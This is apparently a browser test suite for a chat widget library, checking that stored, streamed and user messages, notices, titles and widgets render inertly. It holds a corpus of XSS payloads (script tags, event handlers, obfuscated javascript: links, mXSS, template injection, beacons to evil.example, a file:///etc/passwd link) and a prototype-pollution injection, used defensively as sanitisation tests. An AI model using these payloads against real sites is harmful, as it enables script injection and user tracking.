"""What others write is shown, never run: messages, widgets, titles, notices."""

import json
from collections.abc import Iterable

from playwright.async_api import expect

from chatkit.types import NoticeEvent, ProgressUpdateEvent
from chatkit.widgets import Badge, Button, Card, Col, Image, Markdown, Text, Title
from tests.browser.chat import Chat
from tests.browser.conftest import OpenChat
from tests.browser.scripted import ScriptedServer, assistant_message, user_message

# What a script would have to do to be noticed: it calls `pwned()`.
CORPUS = {
    "script element": "<script>pwned(1)</script>",
    "script in the midst": "Hello <script>pwned(1)</script> there",
    "broken script": '<<script>pwned(1)//<</script>',
    "image handler": "<img src=x onerror=pwned(1)>",
    "svg handler": "<svg onload=pwned(1)><animate onbegin=pwned(1) attributeName=x dur=1s>",
    "svg in data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKDEpIi8+)",
    "iframe": '<iframe src="javascript:parent.pwned(1)"></iframe>',
    "iframe with a document": '<iframe srcdoc="<script>parent.pwned(1)</script>"></iframe>',
    "form": '<form action="javascript:pwned(1)"><button autofocus onfocus=pwned(1)>x</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "object": '<object data="javascript:pwned(1)"></object><embed src="javascript:pwned(1)">',
    "style element": "<style>*{display:none!important}</style>",
    "style attribute": '<div style="position:fixed;inset:0;background:url(https://evil.example/b)">x</div>',
    "stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "math": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src onerror=pwned(1)&gt;\">",
    "javascript link": "[click](javascript:pwned(1))",
    "javascript link, cased": "[click](JaVaScRiPt:pwned(1))",
    "javascript link, entity": "[click](&#106;avascript:pwned(1))",
    "javascript link, tab": "[click](java&Tab;script:pwned(1))",
    "javascript link, newline": "[click](<java\nscript:pwned(1)>)",
    "javascript link, control": "[click](\x01javascript:pwned(1))",
    "javascript autolink": "<javascript:pwned(1)>",
    "javascript reference": "[click]\n\n[click]: javascript:pwned(1)",
    "vbscript link": "[click](vbscript:pwned(1))",
    "data link": "[click](data:text/html,<script>opener.pwned(1)</script>)",
    "blob link": "[click](blob:https://evil.example/1)",
    "file link": "[click](file:///etc/passwd)",
    "quote in title": '[click](https://evil.example "x\\" onmouseover=\\"pwned(1)")',
    "quote in alt": '![x" onerror="pwned(1)](https://evil.example/beacon.png)',
    "image beacon": "![x](https://evil.example/beacon.png?who=ada)",
    "image beacon, no scheme": "![x](//evil.example/beacon.png)",
    "image beacon in link": "[![x](https://evil.example/beacon.png)](https://evil.example)",
    "image beacon in table": "| ![x](https://evil.example/beacon.png) |\n|---|\n| x |",
    "code fence language": '```"><img src=x onerror=pwned(1)>\ncode\n```',
    "code with markup": "```html\n<script>pwned(1)</script>\n```",
    "deep quotes": "> " * 300 + "deep",
    "deep lists": "\n".join("  " * depth + "- x" for depth in range(120)),
    "deep emphasis": "*" * 2000 + "x" + "*" * 2000,
    "open brackets": "[" * 5000,
    "bidi override": "abc\u202egnp.exe\u202c and \u2066isolated\u2069",
    "zero width": "pay\u200bpal\ufeff \u00ad",
    "object replacement": "x\ufffc\ufdd0\ufffcy \uffff",
    "null and controls": "a\x00b\x07c\x1bd",
    "template": "{{constructor.constructor('pwned(1)')()}} ${pwned(1)}",
    "prototype": "__proto__ constructor toString",
}  # fmt: skip

PICTURE = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
    "rkJggg=="
)
"""One pixel."""


async def prepared(open_chat: OpenChat, address: str) -> Chat:
    chat = await open_chat(address)
    await chat.page.evaluate("() => { window.hits = []; window.pwned = (what) => hits.push(what); }")
    return chat


def batched(texts: Iterable[str]) -> list[list[str]]:
    """As many as are loaded at once."""
    found = list(texts)
    return [found[at : at + 30] for at in range(0, len(found), 30)]


async def assert_inert(chat: Chat) -> None:
    """Nothing ran, nothing dangerous is in the document, every link says no more than it should."""
    assert await chat.page.evaluate("probe.dangerous()") == []
    links = await chat.page.evaluate(
        "probe.all('.prose a, [part=widget] a').map((link) => [new URL(link.href).protocol, link.rel])"
    )
    for protocol, rel in links:
        assert protocol in {"http:", "https:", "mailto:", "tel:", "chatkit-link:"}
        assert "noopener" in rel
    for clickable in await chat.page.locator("[part=assistant-message] .prose :text('click')").all():
        if await clickable.evaluate("(node) => node.localName !== 'a'"):
            await clickable.click(force=True)
    assert await chat.page.evaluate("hits") == []


async def test_stored_messages_are_inert(open_chat: OpenChat, scripted: str, server: ScriptedServer) -> None:
    chat = await prepared(open_chat, scripted)
    for texts in batched(CORPUS.values()):
        thread = await server.put_thread("Stored", *(assistant_message("", text) for text in texts))
        await chat.call("setThreadId", thread.id)
        await expect(chat.answers).to_have_count(len(texts))
        await assert_inert(chat)


async def test_streamed_messages_are_inert(open_chat: OpenChat, scripted: str, server: ScriptedServer) -> None:
    chat = await prepared(open_chat, scripted)
    for number, text in enumerate(CORPUS.values(), start=1):
        size = 7 if len(text) < 500 else 500
        server.answer(*(text[at : at + size] for at in range(0, len(text), size)))
        await chat.send(f"Number {number}")
    await expect(chat.answers).to_have_count(len(CORPUS))
    await assert_inert(chat)


async def test_user_messages_titles_and_notices_are_inert(
    open_chat: OpenChat, scripted: str, server: ScriptedServer
) -> None:
    texts = list(CORPUS.values())
    items = [user_message(text) for text in texts]
    thread = await server.put_thread(CORPUS["script in the midst"], *items)
    for name in ("image handler", "javascript link", "bidi override"):
        await server.put_thread(CORPUS[name], user_message("x"))
    chat = await prepared(open_chat, scripted)
    await chat.call("setThreadId", thread.id)
    await expect(chat.title).to_have_text(CORPUS["script in the midst"])
    await expect(chat.said.last).to_have_text(texts[-1])
    turn = server.turn()
    for text in texts:
        turn.send(NoticeEvent(level="info", title=text, message=text))
    turn.send(ProgressUpdateEvent(text=CORPUS["image handler"]))
    await chat.begin("Go")
    await expect(chat.notices).to_have_count(len(texts))
    await expect(chat.progress).to_have_text(CORPUS["image handler"])
    turn.end()
    await chat.idle()
    await chat.open_history()
    await assert_inert(chat)


async def test_widgets_are_inert(open_chat: OpenChat, scripted: str, server: ScriptedServer) -> None:
    chat = await prepared(open_chat, scripted)
    css = "red;position:fixed;inset:0;background:url(https://evil.example/b)"
    server.turn().show(
        Card(
            background=css,
            children=[
                Col(
                    background=css,
                    width="expression(pwned(1))",
                    children=[
                        part
                        for text in CORPUS.values()
                        for part in (
                            Text(value=text, color=css),
                            Markdown(value=text),
                            Title(value=text),
                            Badge(label=text),
                            Button(label=text, iconStart='lucide:"><img src=x onerror=pwned(1)>'),
                        )
                    ],
                ),
                Image(src="https://evil.example/beacon.png", alt="x"),
                Image(src="javascript:pwned(1)", alt="x"),
                Image(src="data:image/svg+xml,<svg onload='pwned(1)'/>", alt="x"),
            ],
        )
    ).end()
    await chat.send("Show")
    await expect(chat.widgets.locator(".w-badge").first).to_be_attached()
    await assert_inert(chat)
    covering = await chat.widgets.evaluate(
        "(node) => [...node.querySelectorAll('*')].filter((each) => getComputedStyle(each).position === 'fixed').length"
    )
    assert covering == 0


async def test_components_nobody_knows_show_nothing(open_chat: OpenChat, scripted: str, server: ScriptedServer) -> None:
    chat = await prepared(open_chat, scripted)
    server.turn().show(Card(children=[Text(value="Before"), Text(value="UNKNOWN"), Text(value="After")])).end()

    async def tamper(route: object) -> None:
        response = await route.fetch()  # type: ignore[attr-defined]
        body = await response.text()
        known = json.dumps({"type": "Text", "value": "UNKNOWN"}, separators=(",", ":"))
        assert known in body
        strange = {"type": "Script", "value": "pwned(1)", "__proto__": {"polluted": True}, "children": [{"type": 7}]}
        await route.fulfill(response=response, body=body.replace(known, json.dumps(strange)))  # type: ignore[attr-defined]

    await chat.page.route("**/chatkit", tamper)
    await chat.send("Show")
    await expect(chat.widgets).to_have_text("BeforeAfter")
    await assert_inert(chat)
    assert await chat.page.evaluate("({}).polluted") is None


async def test_images_load_only_from_where_the_thread_allows(
    open_chat: OpenChat, scripted: str, server: ScriptedServer
) -> None:
    text = f"![inline]({PICTURE}) ![own](/static/favicon.svg) ![other](https://evil.example/x.png)"
    thread = await server.put_thread("Pictures", assistant_message("", text))
    chat = await open_chat(scripted, f"/#thread={thread.id}")
    await expect(chat.answer.get_by_role("img", name="inline")).to_be_visible()
    await expect(chat.answer.locator("img")).to_have_count(2)
    await expect(chat.answer.get_by_role("link", name="other")).to_be_visible()
